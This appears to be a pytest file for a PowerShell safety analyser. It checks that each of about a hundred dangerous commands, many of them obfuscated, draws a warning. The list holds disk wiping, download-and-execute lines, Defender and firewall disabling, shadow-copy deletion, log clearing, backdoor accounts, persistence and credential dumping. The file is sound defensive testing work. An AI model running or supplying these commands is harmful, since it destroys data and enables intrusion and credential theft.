"""Dangerous PowerShell in many spellings: none may pass without at least a warning."""

from __future__ import annotations

import pytest
from suture_safety import analyse

DANGEROUS = r"""
Remove-Item -Recurse -Force C:\
rm -r -fo C:\
ri C:\Windows -r
& 'Remove-Item' -Recurse C:\
& ("Remove" + "-Item") -Recurse C:\
&("{0}-{1}" -f 'Remove','Item') -Recurse C:\
$c = 'Remove-Item'; & $c -Recurse C:\
. $c x
iex "Remove-Item -Recurse C:\"
Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x')
IEX(iwr http://x -UseBasicParsing).Content
iwr http://x | iex
powershell -enc UgBlAG0AbwB2AGUALQBJAHQAZQBtAA==
powershell -e UgBlAG0AbwB2AGUALQBJAHQAZQBtAA==
powershell -NoP -W Hidden -Exec Bypass -File x.ps1
pwsh -c "Remove-Item -Recurse C:\"
cmd /c "del /s /q C:\"
cmd /c rd /s /q C:\
Re`move-It`em -Recurse C:\
$x = "Rem"; $y = "ove-Item"; & "$x$y" -Recurse C:\
[ScriptBlock]::Create('Remove-Item C:\ -Recurse').Invoke()
Invoke-Command -ScriptBlock { Remove-Item C:\ -Recurse }
Start-Process cmd '/c del C:\*'
Get-ChildItem C:\ -Recurse | Remove-Item -Force
gci C:\ -r | ri -fo
Get-ChildItem C:\ | % { Remove-Item $_ -Recurse }
[IO.Directory]::Delete('C:\', $true)
[System.IO.File]::WriteAllText('C:\Windows\System32\drivers\etc\hosts','')
Format-Volume -DriveLetter C
Clear-Disk -Number 0 -RemoveData
Initialize-Disk 0
Stop-Computer -Force
Restart-Computer
shutdown /s /t 0
Set-MpPreference -DisableRealtimeMonitoring $true
Add-MpPreference -ExclusionPath C:\
netsh advfirewall set allprofiles state off
Set-NetFirewallProfile -All -Enabled False
Set-ExecutionPolicy Bypass -Force
vssadmin delete shadows /all /quiet
wmic shadowcopy delete
bcdedit /set {default} recoveryenabled no
wevtutil cl System
Clear-EventLog -LogName System
net user x p /add
net localgroup administrators x /add
New-LocalUser x
Add-LocalGroupMember -Group Administrators -Member x
reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v x /d y
New-ItemProperty HKLM:\Software\Microsoft\Windows\CurrentVersion\Run -Name x -Value y
schtasks /create /tn x /tr y /sc onlogon
Register-ScheduledTask x
New-Service x -BinaryPathName y
sc.exe create x binPath= y
certutil -urlcache -split -f http://x y.exe
bitsadmin /transfer x http://x y
mshta http://x
rundll32 x.dll,y
regsvr32 /s /n /u /i:http://x scrobj.dll
Stop-Service WinDefend
sc stop WinDefend
Stop-Process -Name lsass
taskkill /f /im explorer.exe
Disable-WindowsOptionalFeature -Online -FeatureName x
Uninstall-WindowsFeature x
icacls C:\ /grant Everyone:F /T
takeown /f C:\Windows /r
cipher /w:C:\
manage-bde -lock C:
Invoke-WebRequest http://x -OutFile x.exe; .\x.exe
[Reflection.Assembly]::Load($bytes)
Add-Type -TypeDefinition $code
Get-Content C:\Windows\System32\config\SAM
reg save HKLM\SAM x
ntdsutil "ac i ntds" "ifm" "create full c:\x" q q
Invoke-Mimikatz
Get-ADUser -Filter * | Remove-ADUser
Remove-ADObject x -Recursive
Remove-VM x -Force
Remove-AzResourceGroup -Name x -Force
Remove-S3Bucket x
Read-Host 'x'
while ($true) { Start-Process notepad }
Set-Content C:\Windows\System32\drivers\etc\hosts ''
Out-File C:\boot.ini
Remove-ItemProperty HKLM:\System -Name x
Remove-Item HKLM:\Software -Recurse
reg delete HKLM\Software /f
Disable-NetAdapter *
Remove-NetRoute -Confirm:$false
Clear-History; Remove-Item (Get-PSReadlineOption).HistorySavePath
ForEach-Object -InputObject x -MemberName Delete
(gwmi Win32_OperatingSystem).Win32Shutdown(6)
$env:ComSpec; & $env:ComSpec /c del C:\*
Set-Alias z Remove-Item; z -Recurse C:\
function z { Remove-Item -Recurse C:\ }; z
"Remove-Item -Recurse C:\" | iex
[char[]](82,101) -join '' | iex
'C:\' | Remove-Item -Recurse
Remove-Item -LiteralPath 'C:\' -Recurse
Remove-Item -Path:C:\ -Recurse:$true
Remove-Item "$env:SystemRoot\*" -Recurse
del C:\*.* /s
erase C:\x -r
try { Remove-Item C:\ -Recurse } catch {}
if ($true) { Remove-Item C:\ -Recurse }
@('C:\') | ForEach-Object { Remove-Item $_ -Recurse }
$a = @{Path='C:\';Recurse=$true}; Remove-Item @a
""".strip().split("\n")


@pytest.mark.parametrize("code", DANGEROUS)
def test_no_dangerous_command_passes_in_silence(code: str) -> None:
    assert [one for one in analyse(code, "powershell").findings if one.severity != "info"]
